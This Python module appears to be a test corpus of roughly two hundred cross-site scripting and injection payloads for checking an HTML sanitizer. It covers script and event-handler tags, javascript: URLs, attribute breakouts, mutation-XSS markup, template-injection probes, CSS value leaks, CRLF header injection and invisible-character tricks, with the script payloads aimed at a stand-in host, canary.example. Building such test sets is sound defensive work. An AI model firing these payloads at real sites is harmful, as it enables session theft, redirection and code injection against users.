"""Two hundred texts that somebody may choose to be called, of the families that have broken pages before.

Each sets `window.ran`, opens a dialog, asks the host `canary.example`, or leads there. They are those of OWASP's
cheat sheets on cross-site scripting, and of what got past sanitizers: mutated markup, entities, styles, templates.
"""

from __future__ import annotations

from itertools import product

_HOST = "//canary.example"
_RUN = "window.ran=1"
_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt/x>{_RUN}</sCrIpT >",
    f"<script src={_HOST}/a.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script>alert(1)</script><script>{_RUN}",
)
_HANDLERS = (
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src onerror={_RUN}>",
    f"<object data={_HOST}/o onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<style onload={_RUN}></style>",
    f"<link rel=stylesheet href={_HOST}/s.css onerror={_RUN}>",
    f"<x onpointerrawupdate={_RUN} style='position:fixed;inset:0'>x</x>",
)
# What ends the place that a value may be in: text, a quoted or bare attribute, an element, a comment.
_ENDS = ("", '">', "'>", " x=>", "</strong>", "</title>", "</style>", "--></script>")
_URLS = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://%0a{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f'https://app.example/"onclick="{_RUN}"x="',
    f"https://app.example/'onmouseover='{_RUN}",
    "//canary.example/\\@app.example",
    "https:canary.example",
    "http://localhost@canary.example/",
    f"https://app.example/?x=</a><script>{_RUN}</script>",
)
_ATTRIBUTES = (
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'" autofocus onfocus="{_RUN}" x="',
    f"` onmouseover=`{_RUN}",
    f'"onerror={_RUN} src=x ',
    f'"/><img src=x onerror={_RUN}>',
    f'\\" onmouseover=\\"{_RUN}',
    f'" style="background:url({_HOST}/b)',
    f'" formaction="{_HOST}/f',
    f'" action="{_HOST}/f',
)
_LEADING_AWAY = (
    f'<meta http-equiv="refresh" content="0;url=http:{_HOST}/">',
    f'"><meta http-equiv=refresh content=0;url=http:{_HOST}/>',
    f"0;url=http:{_HOST}/",
    f'<base href="http:{_HOST}/">',
    f"</title><base href=http:{_HOST}/>",
    f'<form action="http:{_HOST}/f"><input name=invite><button>Continue</button></form>',
    f'</form><form id=f action="http:{_HOST}/f"><button>Continue</button>',
    f"<button form=f formaction=http:{_HOST}/f autofocus>Continue</button>",
    f"<iframe src=http:{_HOST}/></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<embed src=http:{_HOST}/e>",
    f'<link rel=prefetch href="http:{_HOST}/p">',
    f'<link rel="dns-prefetch" href="{_HOST}">',
    f'<a href="http:{_HOST}/" id=again class=button>Start again</a>',
    f"<script>location='http:{_HOST}/'</script>",
    f"<img src=http:{_HOST}/i>",
    f'<portal src="http:{_HOST}/"></portal>',
    f'"ping="http:{_HOST}/p',
)
_SVG_AND_MUTATED = (
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}>",
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{_RUN}</script></svg>#x'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<math><mi//xlink:href='data:x,<script>{_RUN}</script>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
    f"<p title='`<img src=x onerror={_RUN}>'>",
    f"<textarea><img src=x onerror={_RUN}></textarea><img src=x onerror={_RUN}>",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    f"<!--[if IE]><script>{_RUN}</script><![endif]-->",
    f"<?xml-stylesheet href='javascript:{_RUN}'?>",
    f"<xmp><p title='</xmp><svg/onload={_RUN}>'>",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ 7 * 7 }}{% include 'style.css' %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}{{ self }}{{ cycler.__init__.__globals__ }}",
    "{{ label|safe }}<b>",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('window.ran=1')()}}",
    "*{7*7}@{7*7}~{7*7}",
    "{% raw %}{{ x }}{% endraw %}{# gone #}",
    "%s%n{0}{label}",
    "[[7*7]][(7*7)]",
    "{{''|attr('format')('{}')}}",
)
_ENTITIES = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={_RUN}&#x3e;",
    f"&ltscript&gt{_RUN}",
    f"&amp;lt;script&amp;gt;{_RUN}",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{_RUN}",
    f"\N{MODIFIER LETTER PRIME}\N{SMALL LESS-THAN SIGN}img onerror={_RUN}\N{SMALL GREATER-THAN SIGN}",
    "&quot; onmouseover=&quot;window.ran=1",
    "&nbsp;&shy;&zwj;&NewLine;&Tab;",
)
_STYLES = (
    f"<style>@import '{_HOST}/s.css';</style>",
    f"</style><style>body{{background:url({_HOST}/b)}}</style>",
    f"x;background:url({_HOST}/b)",
    f"<p style=background:url({_HOST}/b)>",
    f"<style>*{{x:expression({_RUN})}}</style>",
    f"<p style='-moz-binding:url({_HOST}/x)'>",
    f"<style>@font-face{{font-family:x;src:url({_HOST}/f)}}*{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url({_HOST}/a)}}</style>",
    f"<svg><style>*{{fill:url({_HOST}/f#x)}}</style></svg>",
    "</main><main style=display:none>",
)
_UNSEEN = (
    f"\x00<script>{_RUN}</script>",
    f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f"<img src=x one\x00rror={_RUN}>",
    f"<img\x0csrc=x\x0conerror={_RUN}>",
    f"<img\x0bsrc=x\x0bonerror={_RUN}>",
    f"\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe<script>{_RUN}</script>",
    f"\N{RIGHT-TO-LEFT ISOLATE}{_RUN}\N{POP DIRECTIONAL ISOLATE}<svg onload={_RUN}>",
    f"\N{ZERO WIDTH SPACE}<\N{ZERO WIDTH JOINER}script>{_RUN}",
    f"\N{ZERO WIDTH NO-BREAK SPACE}<script>{_RUN}</script>",
    f"\N{LINE SEPARATOR}{_RUN}\N{PARAGRAPH SEPARATOR}<img src=x onerror={_RUN}>",
    f"a\r\nSet-Cookie: ran=1\r\n\r\n<script>{_RUN}</script>",
    f"a\r\nRefresh: 0;url=http:{_HOST}/",
    f"\x1b]8;;http:{_HOST}/\x07x\x1b]8;;\x07<svg onload={_RUN}>",
    f"\x7f\x85\xa0<img src=x onerror={_RUN}>",
    f"\ue000\U000f0000<img src=x onerror={_RUN}>",
    f"\N{COMBINING LONG SOLIDUS OVERLAY}><img src=x onerror={_RUN}>\N{COMBINING LONG SOLIDUS OVERLAY}",
)

PAYLOADS = (
    *(f"{end}{tag}" for end, tag in product(_ENDS, _SCRIPTS)),
    *(f"{end}{tag}" for end, tag in product(_ENDS[:3], _HANDLERS)),
    *_URLS,
    *_ATTRIBUTES,
    *_LEADING_AWAY,
    *_SVG_AND_MUTATED,
    *_TEMPLATES,
    *_ENTITIES,
    *_STYLES,
    *_UNSEEN,
)
